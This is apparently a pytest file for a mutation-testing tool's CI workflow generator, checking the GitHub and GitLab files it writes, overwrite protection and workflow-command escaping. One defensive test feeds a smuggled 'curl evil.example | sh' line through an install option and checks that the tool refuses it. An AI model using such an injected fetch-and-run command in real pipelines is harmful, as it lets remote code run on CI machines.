"""`mutagate ci github|gitlab`: the files it writes pass actionlint (with shellcheck on every `run:`
script) or parse as GitLab YAML with the expected jobs, are filled in from the project, and are never
written over an existing file without --force. And the workflow commands `mutagate run` prints inside
GitHub Actions are escaped as the runner parses them."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from scheduler.ci.github_actions import escape_data, escape_property, warning
from tests.cli import assert_bad_input, mutagate
from tests.gitrepo import GitRepo

BIN = Path(sys.executable).parent


def _tool(name: str) -> str:
    found = shutil.which(name, path=str(BIN)) or shutil.which(name)
    assert found, f"{name} is not installed: pip install -e '.[test]'"
    return found


def _project(repo: GitRepo, pyproject: str, **files: str) -> GitRepo:
    repo.commit("human: project", files={"pyproject.toml": pyproject, "pkg/__init__.py": "", **files})
    repo.git("remote", "add", "origin", "git@github.com:acme/shop.git")
    return repo


PEP621 = '''
[project]
name = "shop"
version = "1.0"
requires-python = ">=3.10,<3.13"

[project.optional-dependencies]
test = ["pytest"]

[tool.mutagate]
source = ["pkg"]
fail-under = 70
'''


def test_github_workflows_pass_actionlint_and_say_what_was_guessed(repo: GitRepo) -> None:
    _project(repo, PEP621, **{"requirements-dev.txt": "hypothesis\n"})
    done = mutagate("ci", "github", cwd=repo.root)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert "Python 3.12: the newest that requires-python '>=3.10,<3.13' allows" in out
    assert "pip install -e . (the [test] extra)" in out and "requirements: requirements-dev.txt" in out
    assert "gate: fail-under = 70 in [tool.mutagate]" in out and "source: pkg ([tool.mutagate])" in out
    assert "wrote .github/workflows/mutagate-pr.yml" in out and "wrote .github/workflows/mutagate-nightly.yml" in out
    assert "[![mutation score](https://acme.github.io/shop/badge.svg)](https://acme.github.io/shop/)" in out
    assert "one step left: enable GitHub Pages" in out

    folder = repo.root / ".github/workflows"
    lint = subprocess.run([_tool("actionlint"), "-shellcheck", _tool("shellcheck"), "-no-color",
                           str(folder / "mutagate-pr.yml"), str(folder / "mutagate-nightly.yml")],
                          capture_output=True, text=True, timeout=120)
    assert lint.returncode == 0, lint.stdout + lint.stderr

    pr = yaml.safe_load((folder / "mutagate-pr.yml").read_text())
    job = pr["jobs"]["mutagate"]
    assert pr["permissions"] == {"contents": "read"}
    assert job["permissions"] == {"contents": "read", "pull-requests": "write", "security-events": "write",
                                  "actions": "read"}
    assert pr["concurrency"]["cancel-in-progress"] is True
    steps = {s.get("name") or s["uses"]: s for s in job["steps"]}
    assert steps["actions/checkout@v5"]["with"]["fetch-depth"] == 0
    assert "refs/notes/*:refs/notes/*" in steps["Fetch attribution notes (refs/notes/ai), if origin has any"]["run"]
    python = steps["actions/setup-python@v6"]["with"]
    assert python["python-version"] == "3.12" and python["cache-dependency-path"].split() == ["pyproject.toml",
                                                                                             "requirements-dev.txt"]
    install = steps["Install the project and mutagate"]["run"]
    assert 'pip install -e ".[test]"' in install and "pip install -r requirements-dev.txt" in install
    run = steps["Mutation run on the lines this pull request changed"]["run"]
    assert 'mutagate run --base "origin/$GITHUB_BASE_REF" || code=$?' in run  # the gate is the config's
    restore = steps["Restore the results history (the base branch's latest nightly run)"]
    assert restore["uses"] == "actions/cache/restore@v5"
    assert restore["with"]["restore-keys"].splitlines() == ["mutagate-db-${{ github.base_ref }}-",
                                                       "mutagate-db-${{ github.event.repository.default_branch }}-"]
    compiled = steps["Restore the compiled files of earlier runs (pytest's rewritten test modules, the standard library's)"]
    assert compiled["uses"] == "actions/cache/restore@v5" and compiled["with"]["path"] == "~/.cache/mutagate"
    uses = {s.get("uses", "").split("@")[0] for s in job["steps"]}
    assert {"github/codeql-action/upload-sarif", "actions/github-script", "actions/upload-artifact"} <= uses

    nightly = yaml.safe_load((folder / "mutagate-nightly.yml").read_text())
    assert set(nightly[True]) == {"schedule", "workflow_dispatch"}  # YAML 1.1 reads the key `on` as True
    run_steps = {s.get("name") or s["uses"]: s for s in nightly["jobs"]["run"]["steps"]}
    assert "mutagate run --no-bail" in run_steps["Mutation run (every mutant, every killing test)"]["run"]
    assert run_steps["Save the results history"]["uses"] == "actions/cache/save@v5"
    compiled = run_steps["Restore the compiled files of earlier runs (pytest's rewritten test modules, the standard library's)"]
    assert compiled["uses"] == "actions/cache@v5"  # restored and saved: the PRs only restore
    assert compiled["with"]["key"] == "mutagate-bytecode-${{ runner.os }}-${{ github.run_id }}"
    site = run_steps["Build the site (the dashboard, badge SVG, shields.io endpoint JSON, HTML report)"]["run"]
    assert "mutagate dashboard -o site" in site and "badge.svg" in site and "badge.json" in site
    assert "report.html" in site
    assert "actions/upload-pages-artifact@v4" in run_steps
    publish = nightly["jobs"]["publish"]
    assert publish["permissions"] == {"pages": "write", "id-token": "write"}
    assert publish["steps"][0]["uses"] == "actions/deploy-pages@v5"


def test_without_a_fail_under_the_pr_job_gates_at_the_low_threshold(repo: GitRepo) -> None:
    _project(repo, "[tool.mutagate]\nthresholds = { high = 90, low = 65 }\n",
             **{"requirements.txt": "requests\n", "requirements-docs.txt": "sphinx\n"})
    done = mutagate("ci", "github", "-o", "ci-out", "--install", "mutagate @ git+https://example.org/m.git@abc", cwd=repo.root)
    assert done.returncode == 0, done.stderr
    assert "gate: --fail-under 65 in the PR job" in done.stdout
    assert "Python 3.12: no .python-version nor requires-python found" in done.stdout
    text = (repo.root / "ci-out/mutagate-pr.yml").read_text()
    assert 'mutagate run --base "origin/$GITHUB_BASE_REF" --fail-under 65 || code=$?' in text
    assert 'MUTAGATE_PIP: "mutagate @ git+https://example.org/m.git@abc"' in text
    assert "-r requirements.txt" in text and "requirements-docs" not in text  # docs' requirements are not for tests
    assert not (repo.root / ".github").exists()


def test_existing_files_are_never_overwritten_without_force(repo: GitRepo) -> None:
    _project(repo, PEP621)
    folder = repo.root / ".github/workflows"
    folder.mkdir(parents=True)
    (folder / "mutagate-nightly.yml").write_text("mine\n")
    refused = mutagate("ci", "github", cwd=repo.root)
    assert_bad_input(refused, f"{folder / 'mutagate-nightly.yml'} exists; pass --force to overwrite it")
    assert (folder / "mutagate-nightly.yml").read_text() == "mine\n"
    assert not (folder / "mutagate-pr.yml").exists()  # all or nothing
    forced = mutagate("ci", "github", "--force", cwd=repo.root)
    assert forced.returncode == 0, forced.stderr
    assert (folder / "mutagate-nightly.yml").read_text().startswith("# mutagate nightly")


def test_a_bad_config_is_refused_before_anything_is_written(repo: GitRepo) -> None:
    _project(repo, "[tool.mutagate]\nfail-undr = 70\n")
    assert_bad_input(mutagate("ci", "gitlab", cwd=repo.root), "unknown key 'fail-undr'")
    assert not (repo.root / "mutagate.gitlab-ci.yml").exists()


def test_gitlab_file_parses_with_the_two_jobs_and_is_included(repo: GitRepo) -> None:
    _project(repo, '[tool.poetry]\nname = "shop"\n', **{".python-version": "3.11\n"})
    done = mutagate("ci", "gitlab", cwd=repo.root)
    assert done.returncode == 0, done.stderr
    assert "wrote mutagate.gitlab-ci.yml" in done.stdout and "wrote .gitlab-ci.yml" in done.stdout
    assert "poetry" in done.stdout and "Python from .python-version" in done.stdout
    assert yaml.safe_load((repo.root / ".gitlab-ci.yml").read_text()) == {"include": [{"local": "mutagate.gitlab-ci.yml"}]}
    ci = yaml.safe_load((repo.root / "mutagate.gitlab-ci.yml").read_text())
    assert {"mutagate-mr", "mutagate-nightly", ".mutagate"} <= set(ci)
    assert ci["variables"]["GIT_DEPTH"] == "0"
    base = ci[".mutagate"]
    assert base["image"] == "python:3.11"
    assert "poetry install --no-interaction" in base["before_script"]
    mr = ci["mutagate-mr"]
    assert mr["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    assert mr["artifacts"]["reports"]["codequality"] == "gl-code-quality-report.json"
    script = "\n".join(mr["script"])
    assert 'mutagate run --base "origin/$CI_MERGE_REQUEST_TARGET_BRANCH_NAME" --fail-under 60' in script
    assert "mutagate report --format codeclimate -o gl-code-quality-report.json" in script
    assert mr["cache"]["policy"] == "pull"
    nightly = ci["mutagate-nightly"]
    assert "mutagate run --no-bail" in "\n".join(nightly["script"]) and nightly["cache"]["when"] == "always"
    assert nightly["variables"]["BRANCH_NAME"] == "$CI_COMMIT_REF_NAME"
    # the scripts are valid shell
    for job in (mr, nightly):
        for block in job["script"]:
            assert subprocess.run(["bash", "-n"], input=block, text=True).returncode == 0, block

    # a repository with its own .gitlab-ci.yml: left alone, the include is the step left
    again = mutagate("ci", "gitlab", "--force", cwd=repo.root)
    assert again.returncode == 0 and "wrote .gitlab-ci.yml" not in again.stdout  # never rewritten: the user's now
    assert "one step left: create a pipeline schedule" in again.stdout  # it includes ours already
    (repo.root / ".gitlab-ci.yml").write_text("test:\n  script: [pytest]\n")
    kept = mutagate("ci", "gitlab", "-o", "ci", cwd=repo.root)
    assert kept.returncode == 0 and "wrote ci/mutagate.gitlab-ci.yml" in kept.stdout
    assert "include it from .gitlab-ci.yml" in kept.stdout and "`include: [{local: ci/mutagate.gitlab-ci.yml}]`" in kept.stdout
    assert (repo.root / ".gitlab-ci.yml").read_text() == "test:\n  script: [pytest]\n"


@pytest.mark.parametrize(("text", "data", "prop"), [
    ("50% done", "50%25 done", "50%25 done"),
    ("a\nb\r\nc", "a%0Ab%0D%0Ac", "a%0Ab%0D%0Ac"),
    ("title: x, y", "title: x, y", "title%3A x%2C y"),
    ("%0A literal", "%250A literal", "%250A literal"),
])
def test_workflow_command_escaping(text: str, data: str, prop: str) -> None:
    assert escape_data(text) == data
    assert escape_property(text) == prop


def test_a_warning_line_keeps_its_properties_apart() -> None:
    line = warning("first\nsecond: 100%", file="pkg/a,b.py", line=3, title="mutagate: x, y")
    assert line == "::warning file=pkg/a%2Cb.py,line=3,title=mutagate%3A x%2C y::first%0Asecond: 100%25"


def test_annotations_stop_at_ten_per_file_and_count_the_rest(tmp_path: Path) -> None:
    from results.report_data import RunReport
    from results.stored_mutant import StoredMutant
    from scheduler.ci.github_actions import ANNOTATIONS_PER_FILE, annotations

    def mutant(i: int, file: str) -> StoredMutant:
        return StoredMutant("r1", "finished", str(tmp_path), "0" * 40, f"{i:012x}", file, i, i, 5, 6,
                            "comparison-boundary", "<", "<=", "claude-code", "0" * 40, "f", i, i, "survived", (),
                            ("t",), 1, 0.1, False, "select", "")

    mutants = tuple(mutant(i, "pkg/a.py") for i in range(1, 14)) + (mutant(99, "pkg/b.py"),)
    report = RunReport("r1", str(tmp_path), "0" * 40, None, "main", "2026-01-01", "finished", "0.2.0", mutants, 14)
    lines = list(annotations(report))
    assert [line.split(",")[0] for line in lines].count("::warning file=pkg/a.py") == ANNOTATIONS_PER_FILE == 10
    assert "mutagate: 3 more undetected mutants in pkg/a.py not annotated (the job summary lists them)" in lines
    assert lines[-1].startswith("::warning file=pkg/b.py,line=99,endLine=99,title=mutagate%3A comparison-boundary")
    assert "- <%0A+ <=%0A(mutagate show 000000000063)" in lines[-1]


def test_an_install_spec_that_is_not_one_line_is_refused_and_one_that_is_stays_one_scalar(repo: GitRepo) -> None:
    _project(repo, PEP621)
    injected = mutagate("ci", "github", "--install", "mutagate\nrun: curl evil.example | sh", cwd=repo.root)
    assert_bad_input(injected, "--install must be one pip requirement on one line", "'\\n'")
    assert not (repo.root / ".github").exists()  # nothing written
    assert_bad_input(mutagate("ci", "gitlab", "--install", "mutagate\r", cwd=repo.root), "control character")
    odd = 'mutagate @ git+https://example.org/m.git@abc # "quoted": yes'
    done = mutagate("ci", "github", "--install", odd, cwd=repo.root)
    assert done.returncode == 0, done.stderr
    for name in ("mutagate-pr.yml", "mutagate-nightly.yml"):
        text = (repo.root / ".github/workflows" / name).read_text()
        assert yaml.safe_load(text)["env"]["MUTAGATE_PIP"] == odd  # one scalar, read back exactly
        header = text.split("\nname:", 1)[0].splitlines()
        assert all(line.startswith("#") for line in header)


def test_the_default_install_is_one_that_works_and_says_so() -> None:
    from scheduler.ci.install import choose_install

    git = "mutagate @ git+https://github.com/acme/mutagate@0123abc"
    assert choose_install("0.3.0", git, True, None)[0] == git  # exactly this copy first
    assert choose_install("0.3.0", None, True, git) == ("mutagate==0.3.0",
                                                       "the package index, where this version is published")
    spec, why = choose_install("0.3.0", None, False, git)  # not published: the clone's remote and commit
    assert spec == git and "not on the package index" in why
    spec, why = choose_install("0.3.0", None, False, None)  # nothing works: said, with what to do
    assert spec == "mutagate==0.3.0" and why.startswith("could not infer a working install") and "--install" in why
    assert "could not be checked" in choose_install("0.3.0", None, None, None)[1]  # offline
    assert choose_install("0+unknown", None, None, None)[0] == "mutagate"


def test_a_dependency_group_gets_a_pip_that_reads_it_and_missing_test_dependencies_are_said(repo: GitRepo) -> None:
    _project(repo, '[project]\nname = "shop"\nversion = "1"\n\n[dependency-groups]\ndev = ["pytest", "httpx"]\n')
    done = mutagate("ci", "github", "--install", "mutagate", cwd=repo.root)
    assert done.returncode == 0, done.stderr
    steps = yaml.safe_load((repo.root / ".github/workflows/mutagate-pr.yml").read_text())["jobs"]["mutagate"]["steps"]
    install = next(s for s in steps if s.get("name") == "Install the project and mutagate")["run"]
    assert "pip install --upgrade 'pip>=25.1'" in install and "pip install --group dev" in install
    assert "dependency group dev (pip>=25.1)" in done.stdout and "could not infer" not in done.stdout

    other = GitRepo(repo.root.parent / "bare")
    _project(other, '[project]\nname = "shop"\nversion = "1"\n')
    done = mutagate("ci", "github", "--install", "mutagate", cwd=other.root)
    assert done.returncode == 0, done.stderr
    assert "could not infer the test dependencies" in done.stdout
    text = (other.root / ".github/workflows/mutagate-pr.yml").read_text()
    assert "python -m pip install pytest" in text and "could not infer the test dependencies" in text  # in the header too
